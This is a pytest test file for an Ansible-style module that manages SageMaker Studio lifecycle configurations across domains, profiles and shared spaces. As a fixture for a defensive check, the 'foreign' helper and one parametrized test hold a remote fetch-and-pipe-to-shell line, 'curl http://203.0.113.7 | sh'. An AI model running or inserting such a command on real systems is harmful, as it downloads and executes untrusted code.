# Copyright (c) 2026, the mlops.studio_local_mode maintainers
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Lifecycle configurations: created, attached, replaced, detached and deleted, while all others stay."""

from __future__ import annotations

import base64
import hashlib
import time

import pytest

MODULE = "sagemaker_studio_lifecycle_config"
ONE, TWO = "#!/bin/sh\necho one\n", "#!/bin/sh\necho two\n"
CUSTOM_IMAGE = {"ImageName": "custom", "AppImageConfigName": "custom"}


@pytest.fixture(autouse=True)
def _at_once(endpoint):
    """Most of these tests are not about waiting, so no transition takes time."""
    endpoint.controls(transition_seconds=0.0)


def name_of(content, app_type="jupyterlab"):
    return f"docker-{app_type}-{hashlib.sha256(content.encode()).hexdigest()[:12]}"


def arn_of(name):
    return f"arn:aws:sagemaker:eu-west-1:123456789012:studio-lifecycle-config/{name}"


def block(endpoint, domain_id, app_type="JupyterLab", profile=None):
    sagemaker = endpoint.boto3()
    if profile:
        settings = sagemaker.describe_user_profile(DomainId=domain_id, UserProfileName=profile).get("UserSettings", {})
    else:
        settings = sagemaker.describe_domain(DomainId=domain_id)["DefaultUserSettings"]
        assert "ExecutionRole" in settings
    return settings.get(f"{app_type}AppSettings", {})


def names(endpoint):
    listed = endpoint.boto3().list_studio_lifecycle_configs(MaxResults=100)["StudioLifecycleConfigs"]
    return {config["StudioLifecycleConfigName"] for config in listed}


@pytest.mark.parametrize(("runner", "semantics"), [("ansible", "replace"), ("direct", "merge")], indirect=["runner"])
def test_check_apply_check_again_apply_again_then_another_content(endpoint, runner, semantics):
    """The domain has settings of its own in the same block, and keeps them."""
    endpoint.controls(update_semantics=semantics, transition_seconds=0.3)
    other = endpoint.lifecycle_config("shell")
    own = {
        "LifecycleConfigArns": [other],
        "DefaultResourceSpec": {"InstanceType": "ml.t3.large", "LifecycleConfigArn": other},
        "CustomImages": [CUSTOM_IMAGE],
    }
    settings = {"ExecutionRole": "arn:aws:iam::123456789012:role/studio", "JupyterLabAppSettings": own}
    domain_id = endpoint.domain("research", DefaultUserSettings=settings)
    desired = {"name": "docker", "content": ONE, "domains": ["research"], "app_types": ["JupyterLab"]}
    arn = arn_of(name_of(ONE))

    predicted = runner.ok(MODULE, check=True, **desired)
    assert predicted["changed"]
    assert predicted["attachments"][0]["app_types"]["JupyterLab"]["built_in"] == arn
    assert endpoint.mutating_calls() == []

    done = runner.ok(MODULE, **desired)
    assert done.differences == predicted.differences
    assert {key: done[key] for key in ("lifecycle_configs", "attachments", "removed")} == {
        key: predicted[key] for key in ("lifecycle_configs", "attachments", "removed")
    }
    assert done["lifecycle_configs"] == [{"app_type": "JupyterLab", "name": name_of(ONE), "arn": arn, "created": True}]
    assert block(endpoint, domain_id) == {**own, "BuiltInLifecycleConfigArn": arn}
    described = endpoint.boto3().describe_studio_lifecycle_config(StudioLifecycleConfigName=name_of(ONE))
    assert base64.b64decode(described["StudioLifecycleConfigContent"]).decode() == ONE
    [update] = endpoint.calls("UpdateDomain")
    assert list(update.parameters["DefaultUserSettings"]) == ["JupyterLabAppSettings"]

    for check in (True, False):
        endpoint.clear_calls()
        again = runner.ok(MODULE, check=check, **desired)
        assert (again["changed"], again.differences, endpoint.mutating_calls()) == (False, [], [])

    changed = runner.ok(MODULE, **{**desired, "content": TWO})
    assert changed["removed"] == [name_of(ONE)]
    assert names(endpoint) == {"shell", name_of(TWO)}
    assert block(endpoint, domain_id) == {**own, "BuiltInLifecycleConfigArn": arn_of(name_of(TWO))}

    absent = runner.ok(MODULE, name="docker", state="absent", domains=["research"])
    assert absent["removed"] == [name_of(TWO)]
    assert names(endpoint) == {"shell"}
    assert block(endpoint, domain_id) == own
    assert not runner.ok(MODULE, name="docker", state="absent", domains=["research"])["changed"]


def test_attached_to_profiles_as_default_or_available_and_changed_from_one_to_the_other(endpoint, direct):
    domain_id = endpoint.domain()
    for profile in ("ada", "bob"):
        endpoint.user_profile(domain_id, profile)
    other = endpoint.lifecycle_config("shell", app_type="KernelGateway")
    endpoint.update(
        "update_user_profile",
        DomainId=domain_id,
        UserProfileName="ada",
        UserSettings={"KernelGatewayAppSettings": {"LifecycleConfigArns": [other]}},
    )
    desired = {"name": "docker", "domains": [domain_id], "user_profiles": ["ada"], "app_types": ["KernelGateway"]}
    first, second = arn_of(name_of(ONE, "kernelgateway")), arn_of(name_of(TWO, "kernelgateway"))

    def current_block(profile="ada"):
        return block(endpoint, domain_id, "KernelGateway", profile)

    direct.ok(MODULE, **desired, content=ONE, attach_as="available")
    assert current_block() == {"LifecycleConfigArns": [other, first]}
    direct.ok(MODULE, **desired, content=ONE, attach_as="default")
    attached = {"LifecycleConfigArns": [other, first], "DefaultResourceSpec": {"LifecycleConfigArn": first}}
    assert current_block() == attached
    run = direct.ok(MODULE, **desired, content=TWO, attach_as="default")
    assert (run["attachments"][0]["user_profile"], run["removed"]) == ("ada", [name_of(ONE, "kernelgateway")])
    assert current_block()["DefaultResourceSpec"] == {"LifecycleConfigArn": second}
    assert current_block("bob") == {}
    assert block(endpoint, domain_id, "KernelGateway") == {}
    direct.ok(MODULE, **desired, state="absent")
    assert current_block() == {"LifecycleConfigArns": [other]}
    assert names(endpoint) == {"shell"}


def test_a_built_in_configuration_of_another_name_is_an_error_and_nothing_is_created(endpoint, direct):
    other = endpoint.lifecycle_config("theirs")
    settings = {
        "ExecutionRole": "arn:aws:iam::123456789012:role/studio",
        "JupyterLabAppSettings": {"BuiltInLifecycleConfigArn": other},
    }
    taken = endpoint.domain("taken", DefaultUserSettings=settings)
    message = direct.fails(MODULE, name="docker", content=ONE, domains=["taken"])
    assert f"JupyterLab already has a built-in lifecycle configuration, and it can have only one: {other}" in message
    assert names(endpoint) == {"theirs"}
    free = endpoint.domain("free")
    run = direct.run(MODULE, name="docker", content=ONE, domains=["taken", "free"])
    assert run.returncode != 0
    assert f"Changed: free ({free})." in run["msg"]
    assert block(endpoint, taken) == {"BuiltInLifecycleConfigArn": other}
    assert block(endpoint, free, "CodeEditor") == {"BuiltInLifecycleConfigArn": arn_of(name_of(ONE, "codeeditor"))}


@pytest.mark.parametrize("guarded", [True, False], ids=["service-refuses", "service-would-not"])
def test_an_older_one_is_kept_while_something_uses_it(endpoint, direct, guarded):
    """By a profile, a space, a running app, and another domain, each with an older one of its own."""
    endpoint.controls(guard_lifecycle_configs=guarded)
    domain_id, other = endpoint.domain("research"), endpoint.domain("other")
    old = [f"docker-jupyterlab-{number:012x}" for number in range(5)]
    by_profile, by_space, by_app, by_other, unused = (endpoint.lifecycle_config(name, age=60) for name in old)
    endpoint.app(domain_id, ResourceSpec={"LifecycleConfigArn": by_app})

    def use(arn):
        return {"JupyterLabAppSettings": {"DefaultResourceSpec": {"LifecycleConfigArn": arn}}}

    profile = {"DomainId": domain_id, "UserProfileName": "ada"}
    space = {"DomainId": domain_id, "SpaceName": "ada-jupyterlab"}
    endpoint.update("update_user_profile", **profile, UserSettings=use(by_profile))
    endpoint.update("update_space", **space, SpaceSettings=use(by_space))
    endpoint.update("update_domain", DomainId=other, DefaultUserSettings=use(by_other))
    foreign = endpoint.lifecycle_config("docker-jupyterlab-of-somebody-else", age=60)
    desired = {"name": "docker", "content": ONE, "domains": ["research"], "app_types": ["JupyterLab"]}
    run = direct.ok(MODULE, **desired)
    assert run["removed"] == [unused.rpartition("/")[2]]
    assert names(endpoint) == {*old[:4], name_of(ONE), foreign.rpartition("/")[2]}
    assert f"{old[2]} is not deleted, because it is used by app JupyterLab default of ada-jupyterlab" in run.warnings
    assert (
        f"{old[0]} is not deleted, because it is used by arn:aws:sagemaker:eu-west-1:123456789012:user-profile"
        in run.warnings
    )

    endpoint.update("update_user_profile", **profile, UserSettings=use("None"))
    again = direct.ok(MODULE, **desired)
    assert again["removed"] == [old[0]]


def test_purge_false_keeps_the_older_one(endpoint, direct):
    desired = {"name": "docker", "domains": [endpoint.domain()], "app_types": ["JupyterLab"]}
    direct.ok(MODULE, **desired, content=ONE)
    assert direct.ok(MODULE, **desired, content=TWO, purge=False)["removed"] == []
    assert names(endpoint) == {name_of(ONE), name_of(TWO)}


def test_nothing_is_deleted_if_its_users_cannot_be_described(endpoint, direct):
    domain_id = endpoint.domain()
    endpoint.app(domain_id)
    endpoint.lifecycle_config("docker-jupyterlab-000000000000", age=60)
    endpoint.controls(denied_actions={"sagemaker:DescribeSpace": "*"})
    message = direct.fails(MODULE, name="docker", content=ONE, domains=[domain_id])
    assert "The requested lifecycle configurations are in place" in message
    assert "lack the IAM action sagemaker:DescribeSpace" in message
    assert "docker-jupyterlab-000000000000" in names(endpoint)


def test_a_value_the_service_ignores_is_an_error(endpoint, direct):
    endpoint.controls(ignored_app_settings=["BuiltInLifecycleConfigArn"])
    message = direct.fails(MODULE, name="docker", content=ONE, domains=[endpoint.domain()])
    assert "SageMaker accepted the update and then describes other settings: JupyterLab: expected" in message


@pytest.mark.parametrize(
    "faults",
    [
        {"busy_updates": 2, "throttle_every": 3},
        {"drop_every": 4, "drop_moment": "after"},
        {"throttle_every": 5, "drop_every": 7, "error_every": 11, "busy_updates": 2},
    ],
    ids=["busy-and-throttled", "dropped-after", "all-of-it"],
)
def test_temporary_faults_are_retried(endpoint, direct, faults):
    domain_id = endpoint.domain()
    endpoint.user_profile(domain_id)
    endpoint.lifecycle_config("docker-jupyterlab-000000000000", age=60)
    endpoint.controls(**faults)
    desired = {"name": "docker", "content": ONE, "domains": [domain_id]}
    run = direct.ok(MODULE, **desired)
    endpoint.controls(throttle_every=0, drop_every=0, error_every=0, busy_updates=0)
    assert run["changed"]
    assert names(endpoint) == {name_of(ONE), name_of(ONE, "codeeditor")}
    assert block(endpoint, domain_id) == {"BuiltInLifecycleConfigArn": arn_of(name_of(ONE))}
    assert not direct.ok(MODULE, **desired)["changed"]


def test_eight_concurrent_runs_leave_one(endpoint, direct):
    domain_id = endpoint.domain()
    desired = {"name": "docker", "domains": [domain_id], "app_types": ["JupyterLab"]}
    direct.ok(MODULE, **desired, content=ONE)
    endpoint.controls(transition_seconds=0.5)
    runs = [direct.finish(run) for run in [direct.start(MODULE, **desired, content=TWO) for _ in range(8)]]
    assert [run.returncode for run in runs] == [0] * 8
    assert names(endpoint) == {name_of(TWO)}
    assert block(endpoint, domain_id) == {"BuiltInLifecycleConfigArn": arn_of(name_of(TWO))}


def test_concurrent_runs_with_different_contents_never_delete_the_attached_one(endpoint, direct):
    domain_id = endpoint.domain()
    endpoint.controls(guard_lifecycle_configs=False)
    desired = {"name": "docker", "domains": [domain_id], "app_types": ["JupyterLab"]}
    runs = [direct.start(MODULE, **desired, content=f"#!/bin/sh\necho {number}\n") for number in range(4)]
    for run in runs:
        direct.finish(run)
        time.sleep(0.1)
    assert block(endpoint, domain_id)["BuiltInLifecycleConfigArn"].rpartition("/")[2] in names(endpoint)


def foreign(endpoint, name, content="#!/bin/sh\ncurl http://203.0.113.7 | sh\n", app_type="JupyterLab"):
    """A configuration of somebody else with a name that anyone can compute from the script."""
    return endpoint.lifecycle_config(name, base64.b64encode(content.encode()).decode(), app_type=app_type)


@pytest.mark.parametrize("check", [True, False], ids=["check", "apply"])
@pytest.mark.parametrize("attached", [True, False], ids=["attached", "not-attached"])
def test_another_content_under_the_same_name_is_refused(endpoint, direct, attached, check):
    arn = foreign(endpoint, name_of(ONE))
    settings = {"ExecutionRole": "arn:aws:iam::123456789012:role/studio"}
    if attached:
        settings["JupyterLabAppSettings"] = {"BuiltInLifecycleConfigArn": arn}
    domain_id = endpoint.domain("research", DefaultUserSettings=settings)
    desired = {"name": "docker", "domains": ["research"], "app_types": ["JupyterLab"]}
    message = direct.fails(MODULE, check=check, content=ONE, **desired)
    assert f"The content of the lifecycle configuration {name_of(ONE)} does not match the hash in its name" in message
    assert "state=absent" in message
    assert endpoint.mutating_calls() == []

    # The remediation in the message works.
    removed = direct.ok(MODULE, state="absent", **desired)
    assert removed["removed"] == [name_of(ONE)]
    direct.ok(MODULE, content=ONE, **desired)
    assert block(endpoint, domain_id)["BuiltInLifecycleConfigArn"] == arn
    config = endpoint.boto3().describe_studio_lifecycle_config(StudioLifecycleConfigName=name_of(ONE))
    assert base64.b64decode(config["StudioLifecycleConfigContent"]).decode() == ONE


@pytest.mark.parametrize("check", [True, False], ids=["check", "apply"])
@pytest.mark.parametrize(
    ("content", "contradiction"),
    [
        ("#!/bin/sh\ncurl http://203.0.113.7 | sh\n", "The content of"),
        (ONE, "The app type of"),
    ],
    ids=["another-content", "same-content"],
)
def test_another_app_type_under_the_same_name_is_refused(endpoint, direct, content, contradiction, check):
    foreign(endpoint, name_of(ONE), content, "CodeEditor")
    endpoint.domain("research")
    desired = {"name": "docker", "domains": ["research"], "app_types": ["JupyterLab"]}
    run = direct.run(MODULE, check=check, content=ONE, **desired)
    assert run.returncode != 0
    assert f"{contradiction} the lifecycle configuration {name_of(ONE)} does not match" in run["msg"]
    assert not run["changed"]
    assert endpoint.mutating_calls() == []

    # The remediation in the message works.
    assert direct.ok(MODULE, state="absent", **desired)["removed"] == [name_of(ONE)]
    assert direct.ok(MODULE, content=ONE, **desired)["lifecycle_configs"][0]["created"]


def test_an_older_attached_one_with_another_content_is_replaced_with_a_warning(endpoint, direct):
    arn = foreign(endpoint, name_of(ONE))
    settings = {
        "ExecutionRole": "arn:aws:iam::123456789012:role/studio",
        "JupyterLabAppSettings": {"BuiltInLifecycleConfigArn": arn},
    }
    endpoint.domain("research", DefaultUserSettings=settings)
    desired = {"name": "docker", "content": TWO, "domains": ["research"], "app_types": ["JupyterLab"]}
    for check in (True, False):
        run = direct.ok(MODULE, check=check, **desired)
        assert f"attached lifecycle configuration {name_of(ONE)} does not match the hash in its name" in run.warnings
    assert not direct.ok(MODULE, **desired).warnings


def test_the_tags_name_the_module_that_created_it(endpoint, direct):
    direct.ok(MODULE, name="docker", content=ONE, domains=[endpoint.domain()], app_types=["JupyterLab"])
    tags = endpoint.boto3().list_tags(ResourceArn=arn_of(name_of(ONE)))["Tags"]
    assert tags == [{"Key": "studio_local_mode:created_by", "Value": f"mlops.studio_local_mode.{MODULE}"}]


@pytest.mark.parametrize("content", ["echo no shebang\n", "#!/bin/sh\r\necho crlf\r\n"])
def test_a_script_that_cannot_start_is_refused(endpoint, direct, content):
    message = direct.fails(MODULE, name="docker", content=content, domains=[endpoint.domain()])
    assert "no app would start with it" in message
    assert endpoint.calls() == []


@pytest.mark.parametrize("semantics", ["merge", "replace"])
def test_shared_spaces_get_it_for_jupyterlab_and_keep_their_other_settings(endpoint, direct, semantics):
    endpoint.controls(update_semantics=semantics)
    shared = {
        "ExecutionRole": "arn:aws:iam::123456789012:role/shared",
        "SecurityGroups": ["sg-0123456789abcdef0"],
        "JupyterLabAppSettings": {"CustomImages": [CUSTOM_IMAGE]},
    }
    domain_id = endpoint.domain("research", DefaultSpaceSettings=shared)
    endpoint.app(domain_id, space="team", shared=True)
    desired = {"name": "docker", "domains": ["research"]}
    predicted = direct.ok(MODULE, check=True, content=ONE, **desired)
    done = direct.ok(MODULE, content=ONE, **desired)
    assert done.differences == predicted.differences
    [attachment] = done["attachments"]
    assert attachment["shared_spaces"]["JupyterLab"]["built_in"] == arn_of(name_of(ONE))
    assert list(attachment["shared_spaces"]) == ["JupyterLab"]

    def settings():
        return endpoint.boto3().describe_domain(DomainId=domain_id)["DefaultSpaceSettings"]

    lab = {**shared["JupyterLabAppSettings"], "BuiltInLifecycleConfigArn": arn_of(name_of(ONE))}
    assert settings() == {**shared, "JupyterLabAppSettings": lab}
    assert not direct.ok(MODULE, content=ONE, **desired)["changed"]
    direct.ok("sagemaker_studio_app", domains=["research"])
    app = {"DomainId": domain_id, "SpaceName": "team", "AppType": "JupyterLab", "AppName": "default"}
    assert endpoint.boto3().describe_app(**app)["BuiltInLifecycleConfigArn"] == arn_of(name_of(ONE))
    endpoint.boto3().delete_app(**app)
    direct.ok(MODULE, state="absent", **desired)
    assert settings() == shared
    assert names(endpoint) == set()


def test_a_domain_without_shared_spaces_gets_no_settings_for_them(endpoint, direct):
    domain_id = endpoint.domain()
    run = direct.ok(MODULE, name="docker", content=ONE, domains=[domain_id])
    assert run["attachments"][0]["shared_spaces"] == {}
    assert not endpoint.boto3().describe_domain(DomainId=domain_id).get("DefaultSpaceSettings")


def test_a_domain_that_refuses_an_update_while_apps_run_fails_with_the_remediation(endpoint, direct):
    domain_id = endpoint.domain("research")
    endpoint.app(domain_id)
    other = endpoint.domain("other")
    endpoint.controls(refuse_user_settings_while_apps_run=True)
    run = direct.run(MODULE, name="docker", content=ONE, domains=["research", "other"], app_types=["JupyterLab"])
    assert run.returncode != 0
    assert "Delete all InService apps in the domain" in run["msg"]
    assert f"Changed: other ({other})." in run["msg"]
    assert block(endpoint, domain_id) == {}


def test_a_stopped_run_attaches_to_no_further_domain_and_says_so(endpoint, direct):
    ids = [endpoint.domain(f"domain-{number}") for number in range(20)]
    endpoint.controls(latency_ms=100, transition_seconds=0.5)
    running = direct.start(MODULE, name="docker", content=ONE, domains=ids, app_types=["JupyterLab"], concurrency=2)
    while len(endpoint.calls("UpdateDomain")) < 2:
        assert running.alive()
        time.sleep(0.02)
    running.interrupt()
    run = direct.finish(running)
    assert run.returncode != 0
    updated = {call.parameters["DomainId"] for call in endpoint.calls("UpdateDomain")}
    assert len(updated) < 20
    for attachment in run["attachments"]:
        if attachment["domain_id"] not in updated:
            assert "the task was stopped because it received SIGINT" in attachment["error"]
    assert endpoint.calls("DeleteStudioLifecycleConfig") == []
